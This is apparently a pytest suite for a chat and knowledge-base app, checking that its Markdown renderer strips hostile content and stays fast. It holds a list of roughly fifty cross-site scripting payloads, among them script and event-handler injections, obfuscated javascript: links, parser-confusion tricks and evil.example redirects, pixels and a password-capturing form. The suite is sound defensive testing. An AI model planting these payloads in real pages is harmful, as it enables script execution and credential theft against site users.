"""Hostile Markdown becomes HTML that runs nothing and fetches nothing from elsewhere, and in a reasonable time."""

import secrets
import time
from html.parser import HTMLParser

import pytest
from httpx import AsyncClient
from litestar import Litestar

from plixa.identity.commands.sessions import Entrance
from plixa.kernel.markdown import render_markdown
from plixa.kernel.settings import Settings
from plixa.support.domain.articles import LONGEST_BODY
from tests.backoffice.crew import hire

OURS = "https://chat.example.com/images/"
PICTURE = f"{OURS}{'0a' * 16}.png"
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<base href=https://evil.example/><form action=/x><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://chat.example.com/1)",
    "[x](//evil.example/x)",
    "[x](https://ok.example/\"onmouseover=\"alert(1))",
    "[x](https://ok.example 'a\" onmouseover=\"alert(1)')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://ok.example/\"onclick=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "![x\" onerror=\"alert(1)](https://evil.example/x.png)",
    f"![x]({OURS}../v1/me)",
    f"![x]({PICTURE}?to=evil)",
    f"![x]({OURS}{'0a' * 16}.svg)",
    f"![x](https://chat.example.com.evil.example/images/{'0a' * 16}.png)",
    "| a | b |\n|:-|-:|\n| <b onclick=alert(1)> | [x](javascript:alert(1)) |",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "``` \"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "> <script\n> >alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\u202egnp.exe <b>",
    "<xss style='behavior:url(x)'>",
]  # fmt: skip
SLOW = ["[", "![", "[a](", "*a ", "**a", "_a__", "<", "&", "`a", "> ", "- ", "|", "a\n", "](", "[a][b]", "*_", "a**b"]


TEXTS = ("a", "blockquote", "br", "code", "em", *(f"h{n}" for n in range(1, 7)), "hr", "img", "li", "ol", "p", "pre", "s", "strong")
HARMLESS = frozenset((*TEXTS, "table", "tbody", "td", "th", "thead", "tr", "ul"))


class Judge(HTMLParser):
    """Reads HTML as a browser does, and notes every tag and attribute that is not harmless."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """One element."""
        if tag not in HARMLESS:
            self.faults.append(tag)
        for name, value in attrs:
            text = value or ""
            harmless = {
                "href": tag == "a" and text.startswith(("http://", "https://", "mailto:")),
                "rel": text == "noopener noreferrer nofollow",
                "src": tag == "img" and text == PICTURE,
                "start": tag == "ol" and text.isdigit(),
                "alt": tag == "img",
                "title": tag in ("a", "img"),
            }
            if not harmless.get(name):
                self.faults.append(f"{tag} {name}={text}")

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")


def faults(html: str) -> list[str]:
    """What in it could do harm."""
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.faults


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_is_harmless(source: str) -> None:
    for around in ("{}", "- {}", "> {}", "before {} after", "**{}**", "[{}](https://ok.example)"):
        assert faults(render_markdown(around.format(source), OURS)) == []


def test_what_is_meant_well_is_shown() -> None:
    shown = render_markdown(
        f"# One\n\n2. **two** ~~no~~ `x`\n\n![A]({PICTURE}) [b](https://b.example/?a=1&b=2)\n\n|a|b|\n|-|-|\n|1|2|", OURS
    )
    assert faults(shown) == []
    for part in ("<h1>One</h1>", '<ol start="2">', "<strong>two</strong>", "<s>no</s>", "<code>x</code>", f'src="{PICTURE}"', "<td>2</td>"):
        assert part in shown
    assert '<a href="https://b.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow">b</a>' in shown


def test_a_judge_that_let_harm_pass_would_be_noticed() -> None:
    for harm in ("<script>", "<img src=x>", '<p onclick="x">', '<a href="javascript:x">', "<!--x-->", '<a href="/x">'):
        assert faults(harm)


@pytest.mark.parametrize("part", SLOW)
def test_no_text_keeps_the_reader_waiting(part: str) -> None:
    text = (part * LONGEST_BODY)[:LONGEST_BODY]
    began = time.perf_counter()
    assert faults(render_markdown(text, OURS)) == []
    assert time.perf_counter() - began < 10  # about one second at worst on an idle machine


async def test_the_html_of_an_article_is_harmless_wherever_it_is_read(
    client: AsyncClient, app: Litestar, entrance: Entrance, settings: Settings
) -> None:
    app.state.gatekeeper.forget()
    staff = await hire(entrance, client, "Bruna")
    body = "\n\n".join(HOSTILE)
    made = await staff.do(
        "POST",
        "/kb/articles",
        json={"title": secrets.token_hex(6), "body": body, "category": "c", "locale": "en", "status": "published"},
    )
    await staff.do("PUT", f"/kb/articles/{made['id']}", json={"position": 1})
    kept = await staff.do("GET", f"/kb/articles/{made['id']}/versions/1")
    public = (await client.get(f"/v1/kb/articles/{made['slug']}")).json()["data"]
    for one in (made, kept, public):
        assert (one["body"], faults(one["html"])) == (body, [])
    assert made["html"] == render_markdown(body, f"{settings.public_url}/images/")
